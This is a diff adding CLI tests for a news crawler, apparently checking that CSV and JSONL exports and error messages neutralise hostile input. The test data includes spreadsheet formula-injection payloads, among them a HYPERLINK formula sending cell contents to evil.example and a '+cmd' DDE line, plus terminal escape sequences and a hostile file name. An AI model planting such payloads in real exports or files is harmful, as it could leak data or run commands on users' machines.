@@ -17,14 +17,19 @@ import sys
 import pytest
 
 from crawler import storage
+from crawler.storing import store_article
+from tests.crawltools import REPO
+from tests.declared import WITH_DEMO
 
 CONTRACT_FIELDS = ["url", "site", "title", "authors", "published", "modified", "language",
-                   "description", "image", "tags", "text", "fetched_at"]  # fmt: skip
+                   "description", "image", "tags", "text", "duplicate_of", "fetched_at"]  # fmt: skip
 
 
 def run(tmp_path, *args, env=None, timeout=120):
     environment = {k: v for k, v in os.environ.items()
                    if k not in {"REDIS_URL", "DATABASE_URL", "NEWSCRAWL_ALLOW_PRIVATE"}}  # fmt: skip
+    # the repository importable, for the test declarations (tests/declared)
+    environment["PYTHONPATH"] = str(REPO) + os.pathsep + environment.get("PYTHONPATH", "")
     environment.update(env or {})
     return subprocess.run(
         [sys.executable, "-m", "crawler.cli", *args],
@@ -50,7 +55,7 @@ def assert_bad_input(result, *must_contain, secret="s3cret"):
 
 @pytest.mark.parametrize(
     "command",
-    [["status"], ["seed", "demo"], ["dead", "list"], ["status", "--json"]],
+    [["status"], ["seed", "https://news.example/"], ["dead", "list"], ["status", "--json"]],
     ids=["status", "seed", "dead", "status-json"],
 )
 def test_unreachable_redis(tmp_path, command):
@@ -98,8 +103,10 @@ def test_invalid_url_target(tmp_path, target, expected):
 
 
 def test_unknown_site_name(tmp_path):
-    result = run(tmp_path, "seed", "nosuchsite", "--redis", "redis://127.0.0.1:1/0")
-    assert_bad_input(result, "unknown site 'nosuchsite'", "demo")
+    result = run(
+        tmp_path, "seed", "nosuchsite", "--redis", "redis://127.0.0.1:1/0", "-s", WITH_DEMO
+    )
+    assert_bad_input(result, "unknown site 'nosuchsite'", "declared sites: demo")
 
 
 def test_unknown_site_in_crawl_touches_nothing(tmp_path):
@@ -137,6 +144,17 @@ def test_extract_with_an_invalid_url(tmp_path):
     assert_bad_input(result, "not an http(s) URL")
 
 
+def test_extract_reports_a_hostile_file_name_on_one_printable_line(tmp_path):
+    folder = tmp_path / "pages"
+    folder.mkdir()
+    (folder / "evil\x1b]0;owned\x07\nline.html.gz").write_bytes(b"not gzip")
+    result = run(tmp_path, "extract", str(folder))
+    assert result.returncode == 1 and result.stdout == ""
+    (line,) = result.stderr.splitlines()
+    assert line.startswith("newscrawl: cannot read ") and "evil line.html.gz" in line
+    assert not any(ord(c) < 0x20 for c in line)
+
+
 def test_eval_of_a_non_folder(tmp_path):
     not_a_folder = tmp_path / "labels.json"
     not_a_folder.write_text("{}")
@@ -154,7 +172,7 @@ def test_export_with_a_bad_since(tmp_path):
 
 
 def test_sites_list(tmp_path):
-    result = run(tmp_path, "sites", "list")
+    result = run(tmp_path, "sites", "list", "-s", WITH_DEMO)
     assert result.returncode == 0, result.stderr
     header, *rows = result.stdout.splitlines()
     assert header.split()[:2] == ["name", "home"]
@@ -164,7 +182,7 @@ def test_sites_list(tmp_path):
 
 
 def test_sites_list_json(tmp_path):
-    result = run(tmp_path, "sites", "list", "--json")
+    result = run(tmp_path, "sites", "list", "--json", "-s", WITH_DEMO)
     assert result.returncode == 0, result.stderr
     sites = {s["name"]: s for s in json.loads(result.stdout)}
     assert sites["demo"]["home"] == "http://127.0.0.2:8461/"
@@ -194,7 +212,7 @@ def _init_db(path, articles=()):
     try:
         storage.init_schema(engine)
         for article in articles:
-            storage.upsert(engine, article)
+            store_article(engine, article)
     finally:
         engine.dispose()
 
@@ -224,10 +242,11 @@ ARTICLES = [
     {"url": "https://news.example/a/2", "site": "news", "title": "Two, with comma",
      "authors": ["Ann", "Bob"], "published": "2024-05-02T10:00:00+00:00", "modified": None,
      "language": "en", "description": None, "image": None, "tags": ["x", "y"],
-     "text": "Para one.\n\nPara \"two\".", "fetched_at": "2024-05-02T11:00:00+00:00"},
+     "text": "Para one.\n\nPara \"two\".", "duplicate_of": None,
+     "fetched_at": "2024-05-02T11:00:00+00:00"},
     {"url": "https://other.example/1", "site": "other", "title": "Other", "authors": [],
      "published": None, "modified": None, "language": "de", "description": "d", "image": None,
-     "tags": [], "text": "Body.", "fetched_at": "2024-05-01T11:00:00+00:00"},
+     "tags": [], "text": "Body.", "duplicate_of": None, "fetched_at": "2024-05-01T11:00:00+00:00"},
 ]  # fmt: skip
 
 
@@ -269,6 +288,60 @@ def test_export_csv_rows(tmp_path):
     assert rows[0]["authors"] == "" and rows[0]["published"] == ""
 
 
+HOSTILE_ARTICLE = {
+    "url": "https://evil.example/a", "site": "evil.example",
+    "title": '=HYPERLINK("https://evil.example/?"&A1, "Click")', "authors": ["@SUM(1+1)", "Ann"],
+    "published": None, "modified": None, "language": "en", "description": "+cmd|' /C calc'!A0",
+    "image": None, "tags": ["\tx", "-2+3"], "text": "\rBody with \x1b[31mcolour\x9b and \u202eback.",
+    "fetched_at": "2024-05-03T11:00:00+00:00",
+}  # fmt: skip
+
+
+def test_export_csv_neutralises_formulas_in_every_text_field(tmp_path):
+    db = tmp_path / "a.db"
+    _init_db(db, [HOSTILE_ARTICLE])
+    result = run(tmp_path, "export", "--db", f"sqlite:///{db}", "--format", "csv")
+    assert result.returncode == 0, result.stderr
+    (row,) = csv.DictReader(io.StringIO(result.stdout))
+    assert row["title"] == "'" + HOSTILE_ARTICLE["title"]
+    assert row["authors"] == "'@SUM(1+1); Ann"
+    assert row["description"] == "'+cmd|' /C calc'!A0"
+    assert row["tags"] == "'\tx; -2+3"
+    # (text mode reads the leading CR back as a newline)
+    assert row["text"][0] == "'" and row["text"][2:] == HOSTILE_ARTICLE["text"][1:]
+    assert row["url"] == HOSTILE_ARTICLE["url"] and row["language"] == "en"
+
+
+def test_export_jsonl_escapes_what_a_terminal_would_act_on(tmp_path):
+    db = tmp_path / "a.db"
+    _init_db(db, [HOSTILE_ARTICLE])
+    result = run(tmp_path, "export", "--db", f"sqlite:///{db}")
+    assert result.returncode == 0, result.stderr
+    assert not any(c in result.stdout for c in "\x1b\x9b\r\u202e")
+    assert json.loads(result.stdout) == HOSTILE_ARTICLE  # the same data, escaped
+
+
+@pytest.mark.integration
+def test_dead_list_shows_redis_text_as_escaped_json_lines(tmp_path, redis_url, key_prefix):
+    import redis
+
+    from crawler.coordination.keys import Keys
+
+    entry = {"url": "https://evil.example/\x1b[2J", "reason": "HTTP 500\n\x9b31m\u202efake"}
+    client = redis.Redis.from_url(redis_url, decode_responses=True)
+    client.rpush(Keys(key_prefix).dead_letters, json.dumps(entry), "not json \x1b]0;x\x07")
+    result = run(
+        tmp_path, "dead", "list", "--redis", redis_url, "-s", f"NEWS_KEY_PREFIX={key_prefix}"
+    )
+    assert result.returncode == 0, result.stderr
+    lines = result.stdout.splitlines()
+    assert [json.loads(line) for line in lines] == [
+        entry,
+        {"reason": "unreadable dead-letter entry", "raw": "not json \x1b]0;x\x07"},
+    ]
+    assert not any(c in result.stdout for c in "\x1b\x07\x9b\u202e")
+
+
 @pytest.mark.parametrize(
     ("argv", "fragment"),
     [
@@ -284,6 +357,102 @@ def test_export_csv_rows(tmp_path):
 def test_usage_errors_are_one_line(tmp_path, argv, fragment):
     result = run(tmp_path, *argv)
     assert_bad_input(result, fragment)
+
+
+UNREACHABLE = "redis://127.0.0.1:1/0"
+
+
+@pytest.mark.parametrize(
+    ("argv", "fragment"),
+    [
+        # numbers a setting cannot compute with
+        (["status", "-s", "DOWNLOAD_DELAY=NaN", "--redis", UNREACHABLE], "finite number"),
+        (["seed", "demo", "-s", "NEWS_LEASE_SECONDS=Infinity", "--redis", UNREACHABLE], "finite"),
+        (["worker", "-s", "DOWNLOAD_TIMEOUT=1e308", "--redis", UNREACHABLE], "ten years"),
+        (["crawl", "demo", "-s", "NEWS_SEEN_CAPACITY=1e20", "--redis", UNREACHABLE], "2**53"),
+        # settings with structure, parsed before any work starts
+        (["worker", "-s", "NEWS_ALLOW_NETWORKS=10.0.0.0/33", "--redis", UNREACHABLE], "10.0.0.0/33"),
+        (["crawl", "demo", "-s", "NEWS_ALLOW_HOSTS=http://intranet.example/", "--redis",
+          UNREACHABLE], "not a host name"),
+        (["worker", "-s", 'ITEM_PIPELINES={"nosuch.Pipeline": 1}', "--redis", UNREACHABLE],
+         "cannot import nosuch.Pipeline"),
+        (["worker", "-s", 'FEEDS={"out.jsonl": {"format": "nosuch"}}', "--redis", UNREACHABLE],
+         "format must be one of"),
+        (["worker", "-s", "LOG_LEVEL=chatty", "--redis", UNREACHABLE], "expected one of"),
+        (["status", "-s", "SPIDER_MODULES=nosuch", "--redis", UNREACHABLE], "cannot import"),
+        # empty values that would silently mean a default
+        (["status", "--redis", ""], "must not be empty"),
+        (["export", "--db", ""], "must not be empty"),
+        (["export", "--site", " "], "must not be empty"),
+        (["extract", ""], "must not be empty"),
+        (["eval", ""], "must not be empty"),
+        (["seed", "", "--redis", UNREACHABLE], "must not be empty"),
+        (["status", "-s", "USER_AGENT=", "--redis", UNREACHABLE], "must not be empty"),
+        # a password in an argument the command quotes back (found by the fuzz test)
+        (["worker", "--db", "x", "postgresql://u:s3cret@127.0.0.1:1/x"],
+         "unrecognized arguments: postgresql://u:***@127.0.0.1:1/x"),
+        (["seed", "https://u:s3cret@news.example:99999/", "--redis", UNREACHABLE], "Port out"),
+        # control characters in arguments
+        (["status", "--redis", UNREACHABLE + "\x1b[31m"], "argument 3"),
+        (["seed", "https://news.example/\n", "--redis", UNREACHABLE], "control character"),
+        # counts beyond what a command does at once
+        (["crawl", "demo", "--workers", "257"], "must be at most 256"),
+        (["crawl", "demo", "--workers", "9" * 5000], "is not a whole number"),
+        (["dead", "list", "--limit", "10001"], "must be at most 10000"),
+        # dates, URLs and paths the system cannot use
+        (["export", "--since", "0001-01-01T00:00:00+01:00"], "out of range"),
+        (["crawl", "demo", "--db", "postgresql+asyncpg://u:s3cret@127.0.0.1:1/x", "--redis",
+          UNREACHABLE], "driver of 'postgresql+asyncpg://u:***@127.0.0.1:1/x' is not installed"),
+        (["worker", "--db", "sqlite+pysqlcipher:///x.db", "--redis", UNREACHABLE], "not installed"),
+        (["worker", "--db", "postgresql://u:s3cret@h:notaport/db"], "invalid database URL"),
+        (["worker", "--db", "sqlite:///a.db?timeout=soon"], "invalid database URL"),
+        (["status", "--redis", "rediss://127.0.0.1:1/0?ssl_cert_reqs=bogus"], "cannot use Redis"),
+        (["status", "--redis", "redis://127.0.0.1:1/0?socket_timeout=soon"], "invalid Redis URL"),
+        (["status", "--redis", "http://127.0.0.1:1/0"], "invalid Redis URL"),
+        # port 0 silently meant the default port: the machine's own Redis or PostgreSQL
+        (["status", "--redis", "redis://127.0.0.1:0/0"], "port 0 is no port"),
+        (["worker", "--db", "postgresql://u:s3cret@127.0.0.1:0/x", "--redis", UNREACHABLE],
+         "port 0 is no port"),
+        (["extract", "a" * 5000], "File name too long"),
+        (["export", "--db", f"sqlite:///{'a' * 300}.db"], "File name too long"),
+        (["eval", "a" * 5000], "File name too long"),
+        (["crawl", "demo", "-s", "NEWS_DATA_DIR=/proc/newscrawl", "--redis", UNREACHABLE],
+         "cannot use the data folder"),
+    ],
+)  # fmt: skip
+def test_bad_input_of_every_kind_is_one_line(tmp_path, argv, fragment):
+    result = run(tmp_path, *argv)
+    assert_bad_input(result, fragment)
+    assert result.stdout == ""
+
+
+def test_an_argument_that_is_not_utf8_is_one_line(tmp_path):
+    environment = {k: v for k, v in os.environ.items() if k not in {"REDIS_URL", "DATABASE_URL"}}
+    result = subprocess.run(
+        [sys.executable, "-m", "crawler.cli", "seed", b"https://news.example/\xff", "--redis",
+         UNREACHABLE],
+        cwd=tmp_path, env=environment, capture_output=True, text=True, timeout=60,
+    )  # fmt: skip
+    line = assert_bad_input(result, "argument 2", "is not valid UTF-8 text")
+    assert line.startswith("newscrawl seed: ")
+
+
+@pytest.mark.integration
+@pytest.mark.parametrize("command", [["dead", "list"], ["dead", "requeue"], ["status"]])
+def test_a_wrong_typed_key_is_one_line_not_an_internal_error(
+    tmp_path, redis_url, key_prefix, command
+):
+    import redis
+
+    from crawler.coordination.keys import Keys
+
+    keys = Keys(key_prefix)
+    client = redis.Redis.from_url(redis_url, decode_responses=True)
+    client.set(keys.dead_letters, "a string where a list belongs")
+    client.set(keys.requests, "a string where a hash belongs")
+    result = run(tmp_path, *command, "--redis", redis_url, "-s", f"NEWS_KEY_PREFIX={key_prefix}")
+    line = assert_bad_input(result, "WRONGTYPE", "moves the bad keys aside")
+    assert line.startswith(f"newscrawl {command[0]}: frontier data in Redis at ")
 
 
 def test_an_unknown_command_is_one_line(tmp_path):
